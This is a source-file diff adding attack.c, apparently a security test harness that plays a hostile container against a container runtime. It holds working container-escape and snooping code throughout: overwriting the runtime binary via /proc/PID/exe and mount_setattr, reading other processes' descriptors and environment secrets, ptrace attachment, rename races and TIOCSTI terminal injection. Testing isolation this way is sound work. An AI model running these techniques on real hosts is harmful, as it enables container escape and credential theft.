@@ -1,0 +1,210 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * attack.c - what a hostile container tries; each success is one line on stdout
+ *
+ *	attack exe SECONDS	get a writable descriptor of the runtime's binary through
+ *				/proc/PID/exe, by open, open_tree and mount_setattr
+ *	attack spy SECONDS	look into each process of the runtime: descriptors above 2,
+ *				the word SECRET in its environment, ptrace
+ *	attack exchange A B SECONDS  exchange the names A and B over and over
+ *	attack sti		push a character into the terminal of standard input
+ */
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/mount.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+enum { TREE_CLONE = 1, EMPTY_PATH = 0x1000, SYS_open_tree_n = 428, SYS_mount_setattr_n = 442 };
+
+static long now_ms(void)
+{
+	struct timespec t;
+
+	(void)clock_gettime(CLOCK_MONOTONIC, &t);
+	return t.tv_sec * 1000 + t.tv_nsec / 1000000;
+}
+
+/* Success is a write that went through. */
+static void try_write(const char *how, const char *path)
+{
+	int fd = open(path, O_WRONLY | O_CLOEXEC);
+
+	if (fd < 0)
+		return;
+	if (write(fd, "owned", 5) == 5)
+		(void)printf("wrote by %s\n", how);
+	(void)close(fd);
+}
+
+static void try_writable_mount(const char *how, int fd)
+{
+	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
+	char path[64];
+
+	if (syscall(SYS_mount_setattr_n, fd, "", EMPTY_PATH, &attr, sizeof attr) == 0)
+		(void)printf("writable by %s\n", how);
+	(void)snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+	try_write(how, path);
+}
+
+static void attack_fd(int fd)
+{
+	int tree = (int)syscall(SYS_open_tree_n, fd, "", EMPTY_PATH | TREE_CLONE);
+
+	try_writable_mount("the file", fd);
+	if (tree < 0)
+		return;
+	try_writable_mount("a clone of its mount", tree);
+	(void)close(tree);
+}
+
+static bool same_file(const struct stat *st, const char *path)
+{
+	struct stat own;
+
+	return stat(path, &own) == 0 && own.st_dev == st->st_dev && own.st_ino == st->st_ino;
+}
+
+/* Neither ourselves nor a program of the image: the runtime, by whatever name. */
+static bool exe_is_foreign(const char *path)
+{
+	struct stat st;
+
+	return stat(path, &st) == 0 && !same_file(&st, "/proc/self/exe") &&
+	       !same_file(&st, "/bin/busybox");
+}
+
+/* Keeps what it finds for when the process has ended: a running program can't be written. */
+static void exe_round(int kept[64], size_t *n)
+{
+	char path[64];
+
+	for (int pid = 1; pid < 400; pid++) {
+		int fd;
+
+		(void)snprintf(path, sizeof path, "/proc/%d/exe", pid);
+		if (!exe_is_foreign(path) || *n == 64)
+			continue;
+		fd = open(path, O_PATH | O_CLOEXEC);
+		if (fd < 0)
+			continue;
+		if (*n == 0)
+			(void)printf("saw the runtime\n");
+		kept[(*n)++] = fd;
+		attack_fd(fd);
+		try_write("its name", path);
+	}
+}
+
+static void attack_exe(long until)
+{
+	int kept[64];
+	size_t n = 0;
+
+	while (now_ms() < until)
+		exe_round(kept, &n);
+	for (size_t i = 0; i < n; i++)
+		attack_fd(kept[i]);
+}
+
+static void spy_fds(int pid)
+{
+	char path[64], target[256];
+
+	for (int fd = 3; fd < 32; fd++) {
+		ssize_t len;
+
+		(void)snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
+		len = readlink(path, target, sizeof target);
+		if (len > 0)
+			(void)printf("descriptor %d is %.*s\n", fd, (int)len, target);
+	}
+}
+
+static void spy_environment(int pid)
+{
+	char path[64], text[16384];
+	ssize_t len;
+	int fd;
+
+	(void)snprintf(path, sizeof path, "/proc/%d/environ", pid);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return;
+	len = read(fd, text, sizeof text);
+	if (len > 0 && memmem(text, (size_t)len, "SECRET", 6))
+		(void)printf("read the environment\n");
+	(void)close(fd);
+}
+
+static bool is_runtime(int pid)
+{
+	char path[64], name[32] = "";
+	int fd;
+
+	(void)snprintf(path, sizeof path, "/proc/%d/comm", pid);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return false;
+	if (read(fd, name, sizeof name - 1) < 0)
+		name[0] = '\0';
+	(void)close(fd);
+	return strncmp(name, "ocirt", 5) == 0;
+}
+
+static void attack_spy(long until)
+{
+	unsigned seen = 0;
+
+	while (now_ms() < until)
+		for (int pid = 2; pid < 4000; pid++) {
+			if (pid == getpid() || !is_runtime(pid))
+				continue;
+			seen++;
+			spy_fds(pid);
+			spy_environment(pid);
+			/* stopped, then looked at: it can't have become the program */
+			if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
+				(void)waitpid(pid, NULL, __WALL);
+				if (is_runtime(pid))
+					(void)printf("traced\n");
+				(void)ptrace(PTRACE_DETACH, pid, 0, 0);
+			}
+		}
+	(void)printf("saw %s\n", seen ? "the runtime" : "nothing");
+}
+
+static void attack_exchange(const char *a, const char *b, long until)
+{
+	while (now_ms() < until)
+		(void)renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
+}
+
+int main(int argc, char **argv)
+{
+	long until = now_ms() + 1000 * (argc > 2 ? strtol(argv[argc - 1], NULL, 10) : 1);
+
+	(void)setvbuf(stdout, NULL, _IOLBF, 0);
+	if (argc == 3 && strcmp(argv[1], "exe") == 0)
+		attack_exe(until);
+	else if (argc == 3 && strcmp(argv[1], "spy") == 0)
+		attack_spy(until);
+	else if (argc == 5 && strcmp(argv[1], "exchange") == 0)
+		attack_exchange(argv[2], argv[3], until);
+	else if (argc == 2 && strcmp(argv[1], "sti") == 0)
+		(void)printf("%s\n", ioctl(0, TIOCSTI, "x") == 0 ? "pushed" : "refused");
+	else
+		return 2;
+	return 0;
+}
